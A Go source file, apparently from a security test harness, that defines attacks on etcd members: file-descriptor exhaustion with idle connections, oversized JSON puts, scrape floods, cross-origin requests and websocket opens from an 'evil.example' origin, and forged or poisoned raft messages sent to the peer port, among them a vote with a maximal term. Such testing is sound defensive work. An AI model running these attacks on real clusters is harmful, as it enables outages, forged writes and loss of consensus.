package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math"
	"net"
	"net/http"
	"strings"

	"github.com/gorilla/websocket"
	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"go.etcd.io/raft/v3/raftpb"
	"google.golang.org/protobuf/proto"
)

// Attacks with HTTP/1 and plain connections, on each port.

// silent holds connections that send nothing, more than the member has descriptors, while the
// member must create files.
func silent(port string) func(ctx context.Context, t *target, c *counter) error {
	return func(ctx context.Context, t *target, c *counter) error {
		address := map[string]string{"client": t.Client, "peer": t.Peer, "metrics": t.Metrics}[port]
		go writes(ctx, t, t.sized(20, 10))
		held := make(chan struct{}, 1500)
		c.swarm(ctx, 8, func(ctx context.Context, _ int) error {
			select {
			case held <- struct{}{}:
			case <-ctx.Done():
				return nil
			}
			var d net.Dialer
			conn, err := d.DialContext(ctx, "tcp", address)
			if err != nil {
				<-held
				return err
			}
			go func() { // one that the member closes is replaced
				stop := context.AfterFunc(ctx, func() { conn.Close() })
				defer stop()
				_, _ = io.Copy(io.Discard, conn)
				conn.Close()
				<-held
			}()
			return nil
		})
		return nil
	}
}

// writesAlone is what silent does besides.
func writesAlone(ctx context.Context, t *target, c *counter) error {
	writes(ctx, t, t.sized(20, 10))
	return nil
}

func jsonBomb(ctx context.Context, t *target, c *counter) error {
	c.swarm(ctx, 8, func(ctx context.Context, _ int) error {
		body := io.MultiReader(strings.NewReader(`{"key":"YQ==","value":"`), io.LimitReader(letters{}, int64(t.sized(100, 30))*mib), strings.NewReader(`"}`))
		_, err := send(ctx, "http://"+t.Client+"/v3/kv/put", "application/json", body)
		return err
	})
	return nil
}

// send posts a body and returns the status.
func send(ctx context.Context, url, contentType string, body io.Reader, header ...string) (int, error) {
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, url, body)
	if err != nil {
		return 0, err
	}
	r.Header.Set("Content-Type", contentType)
	for i := 0; i < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	text, err := io.ReadAll(io.LimitReader(resp.Body, 1000))
	if err == nil && resp.StatusCode >= 400 {
		err = fmt.Errorf("%s: %.100s", resp.Status, bytes.TrimSpace(text))
	}
	return resp.StatusCode, err
}

func scrapes(ctx context.Context, t *target, c *counter) error {
	c.swarm(ctx, t.sized(32, 8), func(ctx context.Context, _ int) error {
		_, err := page(ctx, "http://"+t.Client+"/metrics")
		return err
	})
	return nil
}

// plainPost is what a page of any origin may send without a preflight.
func plainPost(ctx context.Context, t *target, c *counter) error {
	_, err := send(ctx, "http://"+t.Client+"/v3/kv/put", "text/plain", strings.NewReader(`{"key":"cGxhaW4=","value":"eA=="}`), "Origin", "http://evil.example")
	c.count(err)
	<-ctx.Done()
	return nil
}

// evilSocket opens a websocket as a page of another origin would, and reports whether that worked.
func evilSocket(ctx context.Context, address string) bool {
	conn, resp, err := websocket.DefaultDialer.DialContext(ctx, "ws://"+address+"/v3/watch", http.Header{"Origin": {"http://evil.example"}})
	if resp != nil {
		resp.Body.Close()
	}
	if err != nil {
		return false
	}
	conn.Close()
	return true
}

func foreignSocket(ctx context.Context, t *target, c *counter) error {
	if evilSocket(ctx, t.Client) {
		c.count(nil)
	}
	<-ctx.Done()
	return nil
}

func socketRefused(ctx context.Context, r *run) []string {
	if evilSocket(ctx, r.c.Members[0].Endpoint()) {
		return []string{"a page of another origin may watch"}
	}
	return nil
}

// toPeer posts to the peer port what a member would, in the name of from.
func toPeer(ctx context.Context, t *target, from uint64, body io.Reader) error {
	_, err := send(ctx, "http://"+t.Peer+"/raft", "application/protobuf", body,
		"X-Server-From", fmt.Sprintf("%x", from), "X-Server-Version", "3.7.0", "X-Min-Cluster-Version", "3.0.0",
		"X-Etcd-Cluster-ID", fmt.Sprintf("%x", t.ClusterID), "X-Raft-To", fmt.Sprintf("%x", t.Members[0]))
	return err
}

const stranger = 0x5ca1ab1e

func peerPosts(ctx context.Context, t *target, c *counter) error {
	c.swarm(ctx, 8, func(ctx context.Context, _ int) error {
		return toPeer(ctx, t, stranger, io.LimitReader(letters{}, int64(t.sized(500, 100))*mib))
	})
	return nil
}

// message sends a message of raft to the attacked member, once.
func message(ctx context.Context, t *target, c *counter, m *raftpb.Message) error {
	m.To = &t.Members[0]
	b, err := proto.Marshal(m)
	if err != nil {
		return err
	}
	c.count(toPeer(ctx, t, m.GetFrom(), bytes.NewReader(b)))
	<-ctx.Done()
	return nil
}

func peerForged(ctx context.Context, t *target, c *counter) error {
	data, err := proto.Marshal(&pb.InternalRaftRequest{Header: &pb.RequestHeader{ID: 77}, ID: 77, Put: &pb.PutRequest{Key: []byte("forged"), Value: []byte("x")}})
	if err != nil {
		return err
	}
	return message(ctx, t, c, &raftpb.Message{Type: raftpb.MsgProp.Enum(), From: proto.Uint64(stranger), Entries: []*raftpb.Entry{{Data: data}}})
}

// member is the id of another member, in whose name the attacker sends.
func (t *target) member() *uint64 { return &t.Members[len(t.Members)-1] }

func peerPoison(ctx context.Context, t *target, c *counter) error {
	return message(ctx, t, c, &raftpb.Message{Type: raftpb.MsgProp.Enum(), From: t.member(), Entries: []*raftpb.Entry{{Data: []byte("\xff\xff\xff\xff")}}})
}

// peerTerm claims a transfer of leadership: a member that hears a leader ignores any other vote
// request.
func peerTerm(ctx context.Context, t *target, c *counter) error {
	return message(ctx, t, c, &raftpb.Message{Type: raftpb.MsgVote.Enum(), From: t.member(), Context: []byte("CampaignTransfer"), Term: proto.Uint64(math.MaxUint64), Index: proto.Uint64(1 << 40), LogTerm: proto.Uint64(1 << 40)})
}
